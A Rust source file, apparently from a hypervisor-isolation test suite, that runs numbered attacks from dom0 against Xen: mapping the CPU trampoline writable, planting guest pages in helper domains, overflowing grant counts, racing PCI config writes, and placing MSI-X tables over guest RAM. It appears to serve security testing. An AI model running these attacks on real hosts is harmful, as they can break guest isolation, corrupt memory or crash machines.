//! Ways that name no victim: Xen does it for dom0, since it trusts dom0 with addresses, helper domains and devices.

use super::{Attack, Came, Scene, after, let_through};
use crate::calls::{PHYSDEV_OP, control, pair, platform, words};
use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fs::{self, File};
use std::os::unix::fs::FileExt;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::thread;
use std::time::{Duration, Instant};
use vmcrypt_tools::hypercall::{Error, ForeignMap, Ports, Privcmd};
use vmcrypt_tools::xen::{DomId, Frame};

pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "map-trampoline",
        "43",
        "map the code that CPUs start with writable, as memory of no domain",
        |scene| {
            for frame in 0..LOW_MEMORY {
                let Ok(mut map) = scene.xen.map_foreign(DOMID_IO, &[Frame(frame)], true) else {
                    continue;
                };
                let Some(flag) = map.page(0).and_then(|page| starts_cpus(&page)) else {
                    continue;
                };
                // A byte that it sets when a CPU comes up.
                return Ok(match written(&mut map, 0, flag)? {
                    true => Came::Through("it is mapped, and can be written to".to_owned()),
                    false => Came::Nothing("it can be read, and what is written to it is lost".to_owned()),
                });
            }
            Ok(Came::Nothing(
                "no page below 640 KiB that can be mapped holds it".to_owned(),
            ))
        },
    ),
    Attack::new(
        "map-interrupts",
        "43",
        "map the addresses at which a store is an interrupt",
        |scene| {
            let map = scene.xen.map_foreign(DOMID_IO, &[MSI_WINDOW], true)?;
            Ok(match map.refusal(0) {
                Some(errno) => Came::Refused(errno),
                None => Came::Through("they are mapped".to_owned()),
            })
        },
    ),
    Attack::new(
        "ram-as-device",
        "44",
        "give a helper of HVM kind a page of the guest's as a device's memory",
        |scene| {
            let [data, _] = scene.data()?;
            with_helper(scene, HVM | HAP, |helper| {
                let frames = [data.frame.0, 1, 1];
                let permitted = control(scene.xen, helper, IOMEM_PERMISSION, &frames);
                after(permitted, |_| {
                    let mapping = [0x100, data.frame.0, 1, 1];
                    let_through(control(scene.xen, helper, MEMORY_MAPPING, &mapping))
                })
            })
        },
    ),
    Attack::new(
        "foreign-for-helper",
        "44",
        "place a page of the guest's in a helper of HVM kind",
        |scene| {
            let [data, _] = scene.data()?;
            with_helper(scene, HVM | HAP, |helper| {
                let (index, place, error) =
                    (scene.xen.buffer(8)?, scene.xen.buffer(8)?, scene.xen.buffer(8)?);
                let (mut index, mut place) = (index, place);
                index.put(0, data.frame.0);
                place.put(0, 0x100u64);
                let call = [
                    u64::from(helper.0) | FOREIGN << 16 | 1 << 32 | scene.number() << 48,
                    index.address(),
                    place.address(),
                    error.address(),
                ];
                let call = words(scene.xen, &call)?;
                after(
                    scene.xen.call("a page in a helper", 12, &[23, call.address()]),
                    |_| {
                        Ok(match error.get::<u32>(0) as i32 {
                            0 => Came::Through("it is there".to_owned()),
                            errno => Came::Refused(-errno),
                        })
                    },
                )
            })
        },
    )
    .argued("Xen asks whether the helper itself has a right to the guest, which dom0 cannot give it"),
    Attack::new(
        "shadow-external",
        "45",
        "have Xen take a PV domain for one of HVM kind, by a mode of shadow paging",
        |scene| {
            // Not taken apart again: its teardown reads what is no page table.
            let domain = helper(scene, 0)?;
            control(scene.xen, domain, MAX_VCPUS, &[1])?;
            let allocation = [pair(SET_ALLOCATION, 0), 4];
            control(scene.xen, domain, SHADOW_OP, &allocation)?;
            let mode = 1 << 1 | 1 << 3 | 1 << 4;
            let came = let_through(control(scene.xen, domain, SHADOW_OP, &[pair(ENABLE, mode)]))?;
            if !matches!(came, Came::Through(_)) {
                control(scene.xen, domain, DESTROYDOMAIN, &[])?;
            }
            Ok(came)
        },
    ),
    Attack::new(
        "shadow-helper",
        "45",
        "make a helper of HVM kind that runs on shadow page tables",
        |scene| with_helper(scene, HVM, |_| Ok(Came::Through("it is there".to_owned()))),
    ),
    Attack::new(
        "nested-helper",
        "45",
        "make a helper that is given virtualisation of its own",
        |scene| {
            with_helper(scene, HVM | HAP | NESTED_VIRT, |_| {
                Ok(Came::Through("it is there".to_owned()))
            })
        },
    )
    .argued("the emulated CPU lacks what Xen wants for that"),
    Attack::new(
        "monitor-helper",
        "45",
        "watch a helper of HVM kind, whose answers Xen takes unchecked",
        |scene| {
            with_helper(scene, HVM | HAP, |helper| {
                const GET_CAPABILITIES: u32 = 2;
                let_through(control(
                    scene.xen,
                    helper,
                    MONITOR_OP,
                    &[pair(GET_CAPABILITIES, 0), 0],
                ))
            })
        },
    ),
    Attack::new(
        "grant-frames",
        "45",
        "make a helper whose grants are more than Xen counts in 32 bits, so that its tables have no room for them",
        |scene| {
            // 512 of them to a frame.
            let helper = helper_with_grants(scene, 0, (1 << 23) + 1);
            used(scene, helper, |_| Ok(Came::Through("it is there".to_owned())))
        },
    ),
    Attack::new(
        "interrupts-elsewhere",
        "46",
        "have Xen write an interrupt beside a device's table, whose place it reads anew where no device answers",
        interrupts_elsewhere,
    ),
    Attack::new(
        "interrupts-over-ram",
        "46",
        "have Xen keep a device's table of interrupts in a page of the guest's",
        interrupts_over_ram,
    ),
    Attack::new(
        "io-apic-pin",
        "46",
        "have Xen write to an I/O APIC, by a pin that it does not bound",
        |scene| {
            // Register 0 is not written to; a pin beyond the last one would be taken.
            let call = words(scene.xen, &[0xfec0_0000, pair(0, 0)])?;
            let_through(scene.xen.call("an I/O APIC", PHYSDEV_OP, &[9, call.address()]))
        },
    ),
    Attack::new(
        "frequency-port",
        "47",
        "have Xen set a CPU's frequency by a port that is not dom0's",
        |scene| {
            const PCT: u64 = 1;
            const SYSTEM_IO: u64 = 1;
            // Of 32 bits, at the data register of configuration space.
            let register = [SYSTEM_IO << 32 | 32 << 40, 0xcfc];
            performance(scene, PCT, 0, register)
        },
    ),
    Attack::new(
        "frequency-limit",
        "47",
        "name a performance state far beyond those that a CPU has, as its limit",
        |scene| {
            const PPC: u64 = 1 << 2;
            let came = performance(scene, PPC, 0x1000_0000, [0; 2])?;
            if matches!(came, Came::Through(_)) {
                performance(scene, PPC, 0, [0; 2])?;
            }
            Ok(came)
        },
    ),
    Attack::new(
        "move-sleep-register",
        "48",
        "have the chipset move the register that puts the machine to sleep",
        |_| {
            let device = PciDevice::with_ids(0x8086, 0x7113)?;
            let base = device.read(0x40)?;
            device.write(0x40, base ^ 0x1000)?;
            let moved = device.read(0x40)?;
            device.write(0x40, base)?;
            Ok(match moved ^ base {
                0 => Came::Nothing("it is where it was".to_owned()),
                _ => Came::Through(format!("it moved from {base:#x} to {moved:#x}")),
            })
        },
    ),
    Attack::new(
        "race-config-address",
        "48",
        "the same, where another vCPU changes which register is meant between Xen's look at it and the write",
        |_| race_config_address(),
    ),
    Attack::unmade(
        "43",
        "write to code of the firmware that Xen calls",
        "only a host that UEFI started has any: see case `efi`",
    ),
    Attack::unmade(
        "46",
        "make another kind of a PCI device that Xen uses",
        "stock Xen frees it, and dies later",
    ),
    Attack::unmade(
        "49",
        "be no PV domain, and map guests' pages by other means than page tables",
        "chosen on Xen's command line: see case `dom0-pvh`",
    ),
    Attack::unmade(
        "50",
        "shut a guest down while it suspends itself, and resume it",
        "a race that stock Xen loses in too few instructions to be met; by reading",
    ),
    Attack::unmade(
        "51",
        "leave a new vCPU in a mode for which it has no page tables",
        "the machine dies of it on stock Xen: see case `vcpu-mode`",
    ),
    Attack::unmade(
        "47",
        "move configuration space of old AMD machines over RAM",
        "the emulated CPU has no such register, and Xen answers a write that it ignores like one that it makes",
    ),
];

const DOMID_IO: DomId = DomId(0x7ff1);
/// For a byte on its way to where the kernel writes it.
const BYTE: &str = "/tmp/hostile-byte";
/// Frames below 640 KiB.
const LOW_MEMORY: u64 = 0xa0;
/// Behind the local APIC, which nobody may map.
const MSI_WINDOW: Frame = Frame(0xfee01);

// Flags of `XEN_DOMCTL_createdomain`.
const HVM: u32 = 1;
const HAP: u32 = 1 << 1;
const NESTED_VIRT: u32 = 1 << 6;

const CREATEDOMAIN: u32 = 1;
const DESTROYDOMAIN: u32 = 2;
const SHADOW_OP: u32 = 10;
const MAX_VCPUS: u32 = 15;
const IOMEM_PERMISSION: u32 = 20;
const MEMORY_MAPPING: u32 = 39;
const MONITOR_OP: u32 = 77;
/// `XEN_DOMCTL_SHADOW_OP_*`
const SET_ALLOCATION: u32 = 31;
const ENABLE: u32 = 32;
/// `XENMAPSPACE_gmfn_foreign`
const FOREIGN: u64 = 4;

/// Where the byte is that Xen's `trampoline_realmode_entry` sets, if the page holds that: it sets segments, stores a byte,
/// and goes on with `cld`, `cli` and `lidt`.
fn starts_cpus(page: &[u8]) -> Option<usize> {
    let code = page.windows(13).find(|code| {
        code.starts_with(&[0x8c, 0xc8, 0x8e, 0xd8, 0xc6, 0x06])
            && code.ends_with(&[0xa5, 0xfc, 0xfa, 0x0f, 0x01])
    })?;
    // Its segment begins with the page.
    let flag = usize::from(u16::from_le_bytes([code[6], code[7]]));
    (flag < page.len()).then_some(flag)
}

/// Writes to frames that no domain owns, a byte of each, which it then puts back; says what became of each.
pub fn write_unowned(xen: &Privcmd, frames: &[u64]) -> Result<Value> {
    let mut answers = BTreeMap::new();
    for &frame in frames {
        let said = match xen.map_foreign(DOMID_IO, &[Frame(frame)], true) {
            Ok(map) if map.refusal(0).is_some() => "refused",
            Err(_) => "refused",
            Ok(mut map) => match written(&mut map, 0, 0)? {
                true => "written",
                false => "lost",
            },
        };
        answers.insert(format!("{frame:#x}"), said);
    }
    Ok(json!(answers))
}

/// Whether a page that is mapped writable keeps what is written to it. Xen may have mapped it read-only all the same, and
/// drop writes; the kernel writes, so that a fault is an error and no signal. The byte is put back.
fn written(map: &mut ForeignMap, page: usize, offset: usize) -> Result<bool> {
    let old = map.get::<u8>(page, offset);
    let mut set = |to: u8| -> Result<u8> {
        fs::write(BYTE, [to])?;
        map.read_into(page, offset, &File::open(BYTE)?, 1)?;
        Ok(map.get(page, offset))
    };
    let new = set(!old)?;
    set(old)?;
    Ok(new != old)
}

/// One thread writes to whatever register of PCI configuration space is meant, the other says in turn that it is one that
/// cannot change, and the one that moves the sleep register.
fn race_config_address() -> Result<Came> {
    const ADDRESS: u16 = 0xcf8;
    const DATA: u16 = 0xcfc;
    const ENABLE: u32 = 1 << 31;
    const PMBASE: u32 = 0x40;
    let device = PciDevice::with_ids(0x8086, 0x7113)?;
    let base = device.read(PMBASE as u16)?;
    let function = ENABLE | u32::from(device.bus) << 16 | u32::from(device.function) << 8;
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut moved = base;
    while moved == base && Instant::now() < deadline {
        let over = AtomicBool::new(false);
        thread::scope(|scope| -> Result<()> {
            let other = scope.spawn(|| {
                let ports = Ports::open()?;
                while !over.load(Relaxed) {
                    ports.write32(ADDRESS, function);
                    ports.write32(ADDRESS, function | PMBASE);
                }
                Ok::<_, Error>(())
            });
            let ports = Ports::open()?;
            (0..20_000).for_each(|_| ports.write32(DATA, base ^ 0x1000));
            over.store(true, Relaxed);
            Ok(other.join().expect("it does not panic")?)
        })?;
        // By the kernel, whose own accesses nobody disturbs now.
        moved = device.read(PMBASE as u16)?;
    }
    device.write(PMBASE as u16, base)?;
    Ok(match moved ^ base {
        0 => Came::Nothing("it is where it was".to_owned()),
        _ => Came::Through(format!("it moved from {base:#x} to {moved:#x}")),
    })
}

/// An empty domain that nobody but Xen knows.
pub fn helper(scene: &Scene<'_>, flags: u32) -> Result<DomId, Error> {
    // As few as may be.
    helper_with_grants(scene, flags, 4)
}

/// The same with room for grants in so many frames.
fn helper_with_grants(scene: &Scene<'_>, flags: u32, frames: u32) -> Result<DomId, Error> {
    const LAPIC: u32 = 1;
    let handle = u64::from_le_bytes(*b"a helper");
    let emulation = if flags & HVM == 0 { 0 } else { LAPIC };
    let body = [
        handle << 32,
        handle,
        pair(1, flags),
        // One vCPU; event channels as few as may be.
        pair(0, 1),
        pair(127, frames),
        pair(4, 1),
        0,
        pair(0, emulation),
        0,
    ];
    let call = control(scene.xen, DomId(0), CREATEDOMAIN, &body)?;
    Ok(DomId(call.get(8)))
}

/// Makes a helper, uses it, and ends it.
fn with_helper(scene: &Scene<'_>, flags: u32, body: impl FnOnce(DomId) -> Result<Came>) -> Result<Came> {
    used(scene, helper(scene, flags), body)
}

fn used(
    scene: &Scene<'_>,
    helper: Result<DomId, Error>,
    body: impl FnOnce(DomId) -> Result<Came>,
) -> Result<Came> {
    after(helper, |helper| {
        let came = body(helper);
        control(scene.xen, helper, DESTROYDOMAIN, &[])?;
        came
    })
}

/// Uploads what ACPI says of a CPU's performance states; `register`: those that set and tell the state.
fn performance(scene: &Scene<'_>, flags: u64, limit: u32, register: [u64; 2]) -> Result<Came> {
    const PERFORMANCE: u32 = 1;
    let [kind, address] = register;
    let body = [
        pair(0, PERFORMANCE),
        pair(flags as u32, limit),
        kind,
        address,
        kind,
        address,
    ];
    let_through(platform(scene.xen, 54, &body))
}

/// Has a device's table judged, and then lets the device vanish while Xen asks it where the table begins.
fn interrupts_elsewhere(scene: &Scene<'_>) -> Result<Came> {
    const MEMORY: u32 = 1 << 1;
    const BUSES: u16 = 0x18;
    let device = PciDevice::with_interrupt_table()?;
    let bridge = PciDevice::find(|found| {
        Ok(found.read(8)? >> 16 == 0x0604 && found.read(BUSES)? >> 8 & 0xff == u32::from(device.bus))
    })?;
    let capability = device.interrupt_table.context("it has no table")?;
    let table = device.read(capability + 4)?;
    let place = u64::from(device.read(0x10 + 4 * (table as u16 & 7))? & !0xf);
    ensure!(place != 0, "firmware gave the device no place");
    let command = device.read(4)?;
    device.write(4, command | MEMORY)?;
    let first = map_interrupt(scene, &device, 0, place)?;
    // To a bus that nothing is on: each read of the device gives ones.
    let buses = bridge.read(BUSES)?;
    bridge.write(BUSES, buses & 0xff00_00ff | 0x0030_3000)?;
    let beside = map_interrupt(scene, &device, 1, place);
    bridge.write(BUSES, buses)?;
    let came = after(beside, |number| {
        unmap_interrupt(scene, number)?;
        Ok(Came::Through("Xen wrote to the page behind it".to_owned()))
    });
    unmap_interrupt(scene, first)?;
    device.write(4, command)?;
    came
}

/// Maps an entry of a device's table of interrupts, which dom0 says is in a BAR at `place`; its number.
fn map_interrupt(scene: &Scene<'_>, device: &PciDevice, entry: u32, place: u64) -> Result<u32, Error> {
    let mut call = scene.xen.buffer(40)?;
    call.put(0, 0x7ff0u16);
    // By segment, any index, any number.
    call.put(4, [3u32, u32::MAX, u32::MAX]);
    call.put(16, [u32::from(device.bus), u32::from(device.function), entry]);
    call.put(32, place);
    scene
        .xen
        .call("an interrupt", PHYSDEV_OP, &[13, call.address()])?;
    Ok(call.get::<u32>(12))
}

fn unmap_interrupt(scene: &Scene<'_>, number: u32) -> Result<(), Error> {
    let mut call = scene.xen.buffer(8)?;
    call.put(0, 0x7ff0u16);
    call.put(4, number);
    scene
        .xen
        .call("no interrupt", PHYSDEV_OP, &[14, call.address()])?;
    Ok(())
}

/// Points a device at RAM, as if its registers were there, and asks for one of its interrupts.
fn interrupts_over_ram(scene: &Scene<'_>) -> Result<Came> {
    const MEMORY: u32 = 1 << 1;
    let device = PciDevice::with_interrupt_table()?;
    let capability = device.interrupt_table.context("it has no table")?;
    let table = device.read(capability + 4)?;
    let (bar, offset) = (0x10 + 4 * (table as u16 & 7), u64::from(table & !7));
    // Where the table is a page of its own, which begins where the page of the guest's does.
    device.write(bar, u32::MAX)?;
    let size = u64::from(!(device.read(bar)? & !0xf)) + 1;
    ensure!(size.is_power_of_two(), "a BAR of {size:#x} bytes");
    let pages = scene.prey.pages(scene.xen)?;
    let fits = |frame: &u64| (frame << 12).wrapping_sub(offset) % size == 0 && frame << 12 > offset;
    let victim = pages
        .iter()
        .map(|(_, frame, _)| frame.0)
        .rfind(fits)
        .context("no page of the guest's lies where the table would be")?;
    device.write(bar, ((victim << 12) - offset) as u32)?;
    let command = device.read(4)?;
    device.write(4, command | MEMORY)?;
    let mapped = map_interrupt(scene, &device, 0, (victim << 12) - offset);
    let came = after(mapped, |number| {
        unmap_interrupt(scene, number)?;
        Ok(Came::Through("Xen wrote to it".to_owned()))
    });
    device.write(4, command)?;
    device.write(bar, 0)?;
    came
}

/// A device's configuration space, through dom0's kernel.
struct PciDevice {
    config: File,
    bus: u8,
    function: u8,
    /// Where the capability MSI-X is.
    interrupt_table: Option<u16>,
}

impl PciDevice {
    fn find(wanted: impl Fn(&PciDevice) -> Result<bool>) -> Result<PciDevice> {
        let mut all: Vec<PathBuf> = fs::read_dir("/sys/bus/pci/devices")?
            .map(|entry| Ok(entry?.path()))
            .collect::<Result<_>>()?;
        all.sort();
        for path in all {
            let device = PciDevice::open(&path)?;
            if wanted(&device)? {
                return Ok(device);
            }
        }
        anyhow::bail!("the machine has no such device")
    }

    fn with_ids(vendor: u32, device: u32) -> Result<PciDevice> {
        Self::find(|found| Ok(found.read(0)? == vendor | device << 16))
    }

    /// One with MSI-X that dom0 has no driver for: an NVMe controller without a disk.
    fn with_interrupt_table() -> Result<PciDevice> {
        const NVME: u32 = 0x0001_0802;
        Self::find(|found| Ok(found.read(8)? >> 8 == NVME && found.interrupt_table.is_some()))
    }

    fn open(path: &std::path::Path) -> Result<PciDevice> {
        let name = path.file_name().and_then(|name| name.to_str()).unwrap_or("");
        // As in 0000:00:1f.3.
        let number = |text: Option<&str>| u8::from_str_radix(text.unwrap_or("x"), 16);
        let mut parts = name.split([':', '.']).skip(1);
        let (bus, slot, function) = (
            number(parts.next())?,
            number(parts.next())?,
            number(parts.next())?,
        );
        let config = File::options().read(true).write(true).open(path.join("config"))?;
        let mut device = PciDevice {
            config,
            bus,
            function: slot << 3 | function,
            interrupt_table: None,
        };
        device.interrupt_table = device.capability(0x11)?;
        Ok(device)
    }

    fn capability(&self, id: u32) -> Result<Option<u16>> {
        const HAS_LIST: u32 = 1 << 20;
        if self.read(4)? & HAS_LIST == 0 {
            return Ok(None);
        }
        let mut at = self.read(0x34)? as u16 & 0xfc;
        for _ in 0..48 {
            if at == 0 {
                break;
            }
            let head = self.read(at)?;
            if head & 0xff == id {
                return Ok(Some(at));
            }
            at = (head >> 8) as u16 & 0xfc;
        }
        Ok(None)
    }

    fn read(&self, at: u16) -> Result<u32> {
        let mut word = [0; 4];
        self.config.read_exact_at(&mut word, at.into())?;
        Ok(u32::from_le_bytes(word))
    }

    fn write(&self, at: u16, word: u32) -> Result<()> {
        Ok(self.config.write_all_at(&word.to_le_bytes(), at.into())?)
    }
}
